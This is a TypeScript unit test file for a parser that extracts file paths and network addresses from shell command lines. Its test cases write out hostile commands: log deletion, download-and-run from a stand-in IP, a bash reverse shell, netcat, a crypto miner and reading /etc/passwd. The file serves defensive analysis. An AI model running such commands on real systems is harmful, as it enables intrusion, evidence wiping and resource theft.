import fc from 'fast-check';
import { expect, test } from 'vitest';
import { namedInCommandLine } from './commandLine.ts';

const names = (commandLine: string) => namedInCommandLine(commandLine).map(({ kind, value }) => `${kind} ${value}`);

test.each<[string, string[]]>([
  ['rm -f /var/log/auth.log /var/log//syslog', ['file /var/log/auth.log', 'file /var/log/syslog']],
  ['sh -c curl -s http://203.0.113.9/x.sh -o /tmp/x && /tmp/x', ['address 203.0.113.9', 'file /tmp/x', 'file /tmp/x']],
  ['ssh pi@192.0.2.11', ['address 192.0.2.11']],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['address 203.0.113.9']],
  ['nc [2001:db8::9]:4444 2>/dev/null', ['address 2001:db8::9']],
  ['xmrig --url=203.0.113.9:4444 --config="/etc/x.json"', ['address 203.0.113.9', 'file /etc/x.json']],
  ['netsh /add C:\\Temp\\a.dll', ['file C:\\Temp\\a.dll']],
  ["sh -c 'cat /etc/passwd'", ['file /etc/passwd']],
  ['cp "/opt/my file" x', []],
  ['ls /var/log/* /tmp', []],
  ['perl -e Foo::Bar a::b 1.2.3', []],
])('%s', (commandLine, found) => expect(names(commandLine)).toEqual(found));

test('any text is read, also one of a megabyte of quotes', () => {
  fc.assert(fc.property(fc.string(), (text) => Array.isArray(names(text))));
  expect(names('"\\'.repeat(500_000))).toEqual([]);
});
